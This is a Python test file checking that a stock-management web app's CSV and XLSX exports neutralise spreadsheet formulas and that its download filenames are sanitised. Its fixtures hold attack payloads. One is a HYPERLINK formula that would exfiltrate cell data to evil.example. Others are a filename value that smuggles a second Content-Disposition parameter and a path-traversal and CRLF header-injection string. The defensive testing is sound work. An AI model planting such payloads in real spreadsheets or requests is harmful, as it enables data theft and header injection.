"""Exports people open in a spreadsheet never carry a live formula, and download names are made
safe, against the live app on both databases."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from stock.ledger import post
from stock.masterdata import add_item
from tests.stock.builders import entry
from tests.web.test_app_api import bearer, issue_token
from web.downloads import safe_filename

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
TRICKY_ITEM = 'X"; filename=evil.exe'


def _seed(live_server) -> None:
    with live_server.Session() as s:
        add_item(s, TRICKY_ITEM, "Tricky", "tablet")
        s.flush()
        post(s, [entry("receipt", 10, facility="H1", item="MOR10", lot=FORMULA),
                 entry("receipt", 5, facility="H1", item=TRICKY_ITEM, lot="+1+2"),
                 entry("adjustment", -2, facility="H1", item="MOR10", lot=FORMULA, reason="-correction")])
        s.commit()


def test_safe_filename():
    assert safe_filename("stock-card", "H1", TRICKY_ITEM, ext="csv") == "stock-card-H1-X-filename-evil.exe.csv"
    assert safe_filename("../../etc", "passwd\r\nX-Evil: 1", ext="csv") == "etc-passwd-X-Evil-1.csv"
    assert safe_filename("", ext="x\"lsx") == "download.xlsx"


def test_csv_and_xlsx_exports_hold_no_formula(live_server):
    _seed(live_server)
    c = live_server.client(headers=bearer(issue_token(live_server, "manager_h1")))
    r = c.get("/api/v1/export/on-hand.csv", params={"facility": "H1"})
    assert r.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells and "'+1+2" in cells
    r = c.get("/api/v1/export/on-hand.xlsx", params={"facility": "H1"})
    ws = load_workbook(io.BytesIO(r.content)).active
    values = [(cell.value, cell.data_type) for row in ws.iter_rows() for cell in row]
    assert (FORMULA, "s") in values  # the text itself, as a string: never a formula
    assert not [v for v, t in values if t == "f"]
    card = c.get("/api/v1/export/stock-card.csv", params={"facility": "H1", "item": "MOR10"})
    assert card.status_code == 200 and "'-correction" in card.text and "\n-correction" not in card.text
    # A negative quantity is a number, left as it is.
    assert any(cell == "-2" for row in csv.reader(io.StringIO(card.text)) for cell in row)


def test_download_names_are_safe(live_server):
    _seed(live_server)
    page = live_server.login("manager_h1")
    r = page.get(f"/stock/H1/card/{TRICKY_ITEM}/export")
    assert r.status_code == 200
    assert r.headers["content-disposition"] == 'attachment; filename="stock-card-H1-X-filename-evil.exe.csv"'
    r = page.get("/stock/H1/export/lots", params={"item": TRICKY_ITEM})
    assert r.status_code == 200 and r.headers["content-disposition"].count('"') == 2
